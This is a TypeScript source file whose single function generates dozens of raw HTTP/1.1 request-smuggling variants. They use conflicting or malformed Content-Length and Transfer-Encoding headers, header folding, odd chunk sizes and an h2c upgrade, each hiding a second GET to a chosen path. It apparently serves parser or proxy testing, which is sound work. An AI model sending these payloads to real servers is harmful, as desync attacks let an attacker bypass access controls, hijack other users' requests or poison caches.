/**
 * Requests whose length can be read in two ways (RFC 9112 §11.2), with another request hidden where one reader
 * takes it for body and the other for what comes next.
 */
export function framedRequests(host: string, path: string, hiddenPath: string): string[] {
  const hidden = `GET ${hiddenPath} HTTP/1.1\r\nHost: ${host}\r\n\r\n`;
  const chunk = `${hidden.length.toString(16)}\r\n${hidden}\r\n0\r\n\r\n`;
  const request = (lines: string[], body: string) =>
    `${[`POST ${path} HTTP/1.1`, `Host: ${host}`, "Connection: close", ...lines].join("\r\n")}\r\n\r\n${body}`;
  const length = (text: string) => `Content-Length: ${text}`;
  const exact = length(String(hidden.length));
  return [
    request([exact], hidden),
    request(["Transfer-Encoding: chunked"], chunk),
    request(["Transfer-Encoding: chunked", length("4")], chunk),
    request([length("4"), "Transfer-Encoding: chunked"], chunk),
    request(["Transfer-Encoding: chunked", exact], `0\r\n\r\n${hidden}`),
    request([exact, "transfer-encoding: Chunked"], `0\r\n\r\n${hidden}`),
    request([exact, "Connection: content-length"], hidden),
    request([exact, "Connection: transfer-encoding, content-length"], hidden),
    request(["Transfer-Encoding: chunked", "Connection: transfer-encoding"], chunk),
    request([exact, "Expect: 100-continue"], hidden),
    ...["+4", "-4", "4,4", "4, 5", "0x4", "4 4", " 4", "4e0", "٤", "", "99999999999999999999"].map((text) =>
      request([length(Buffer.from(text, "utf8").toString("latin1"))], hidden),
    ),
    request([length("4"), exact], hidden),
    request([exact, exact], hidden),
    ...[
      "identity",
      "xchunked",
      "chunked, chunked",
      "gzip, chunked",
      "chunked;q=1",
      '"chunked"',
      "\tchunked",
    ].map((coding) => request([`Transfer-Encoding: ${coding}`, exact], chunk)),
    request(["Transfer-Encoding: chunked", "Transfer-Encoding: identity"], chunk),
    request(["Transfer-Encoding : chunked", exact], chunk),
    request(["X-A: 1\r\n Transfer-Encoding: chunked", exact], hidden),
    request(["X-A: 1\nTransfer-Encoding: chunked", exact], chunk),
    request([exact, "Transfer_Encoding: chunked"], hidden),
    request(["Transfer-Encoding: chunked"], `4;x=${"a".repeat(64)}\r\nabcd\r\n0\r\nX-A: 1\r\n\r\n${hidden}`),
    request(["Transfer-Encoding: chunked"], `-1\r\n${hidden}`),
    request(["Transfer-Encoding: chunked"], `fffffffffffffffff\r\n${hidden}`),
    request(
      ["Upgrade: h2c", "Connection: upgrade, http2-settings", "HTTP2-Settings: AAMAAABkAAQAAP__", exact],
      hidden,
    ),
  ];
}
